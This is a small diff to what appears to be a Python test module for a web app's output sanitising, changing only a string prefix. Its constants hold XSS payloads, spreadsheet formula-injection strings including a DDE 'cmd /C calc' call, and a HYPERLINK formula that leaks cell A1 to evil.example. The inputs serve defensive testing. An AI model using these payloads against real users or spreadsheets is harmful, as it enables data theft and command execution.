@@ -22,7 +22,7 @@ from tests.test_pages import APP, assert_clean
 
 SCRIPT = '<script>alert("pwned")</script>'
 GROUP = f'=HYPERLINK("http://evil.example/?leak="&A1,"Growth") {SCRIPT} **bold** [link](javascript:alert(1)) $x$ :red[red]'
-TEAM = f"+cmd|' /C calc'!A0 <img src=x onerror=alert(1)> __Payments__"
+TEAM = "+cmd|' /C calc'!A0 <img src=x onerror=alert(1)> __Payments__"
 ANNOTATION = f"-2+3 <b>launch</b> {SCRIPT}"
 NOTE = f"@SUM(1+1) <iframe src=//evil.example></iframe> {SCRIPT}"
 QUARTER = date(2026, 7, 1)
